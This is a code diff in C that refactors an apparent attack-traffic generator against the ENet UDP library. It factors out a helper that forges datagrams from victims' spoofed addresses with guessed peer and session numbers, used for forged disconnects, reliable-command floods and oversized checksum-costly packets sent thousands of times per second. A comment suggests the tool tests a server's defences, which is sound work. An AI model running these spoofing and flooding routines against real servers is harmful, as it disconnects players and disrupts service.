@@ -67,12 +67,26 @@ static void martians(attack_t *attack) {
     send_at(attack, 2000, write_martian);
 }
 
+/// Begins a datagram from a victim's address, with a guess of the peer and session numbers. Returns
+/// the number of the guess.
+static uint32_t begin_as_victim(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
+                                uint32_t n) {
+    uint32_t guess = n / attack->victims;
+    *from = attack->victim[n % attack->victims];
+    Wire_Begin(out, guess % 40 | (guess / 40 & 3u) << 12, n);
+    return guess;
+}
+
+static void send_as_victims(attack_t *attack, double per_s, write_t *write) {
+    if (attack->victims > 0) {
+        send_at(attack, per_s, write);
+    }
+}
+
 static void write_disconnect(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                              uint32_t n) {
     uint32_t id = Attack_Random();
-    *from = attack->victim[n % attack->victims];
-    uint32_t guess = n / attack->victims;
-    Wire_Begin(out, guess % 40 | (guess / 40 & 3u) << 12, n);
+    uint32_t guess = begin_as_victim(attack, out, from, n);
     Wire_Command(out, ENET_DISCONNECT | (guess % 2 ? ENET_UNSEQ_FLAG : ENET_WANTS_ACK),
                  ENET_CONTROL, guess);
     Wire_U32(out, 0);
@@ -80,18 +94,14 @@ static void write_disconnect(const attack_t *attack, datagram_t *out, struct soc
 }
 
 static void forged_disconnect(attack_t *attack) {
-    if (attack->victims > 0) {
-        send_at(attack, 10000, write_disconnect);
-    }
+    send_as_victims(attack, 10000, write_disconnect);
 }
 
 // Whatever costs its sender the connection must not cost a player theirs.
 static void write_framed(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                          uint32_t n) {
     uint32_t id = Attack_Random();
-    *from = attack->victim[n % attack->victims];
-    uint32_t guess = n / attack->victims;
-    Wire_Begin(out, guess % 40 | (guess / 40 & 3u) << 12, n);
+    uint32_t guess = begin_as_victim(attack, out, from, n);
     if (guess % 3 == 0) {
         for (int i = 0; i < 220; i++) {
             Wire_Reliable(out, 0, 5000 - (uint32_t)i, 0);
@@ -107,25 +117,19 @@ static void write_framed(const attack_t *attack, datagram_t *out, struct sockadd
 }
 
 static void framed(attack_t *attack) {
-    if (attack->victims > 0) {
-        send_at(attack, 2000, write_framed);
-    }
+    send_as_victims(attack, 2000, write_framed);
 }
 
 // The longest datagrams that ENet reads, whose checksum costs most.
 static void write_framed_large(const attack_t *attack, datagram_t *out, struct sockaddr_in *from,
                                uint32_t n) {
-    uint32_t guess = n / attack->victims;
-    *from = attack->victim[n % attack->victims];
     memset(out->bytes, (int)n, sizeof out->bytes);
-    Wire_Begin(out, guess % 40 | (guess / 40 & 3u) << 12, n);
+    begin_as_victim(attack, out, from, n);
     out->size = 4090; // with any checksum: that of the real connection is not known
 }
 
 static void framed_large(attack_t *attack) {
-    if (attack->victims > 0) {
-        send_at(attack, 5000, write_framed_large);
-    }
+    send_as_victims(attack, 5000, write_framed_large);
 }
 
 const attack_row_t spoof_rows[] = {
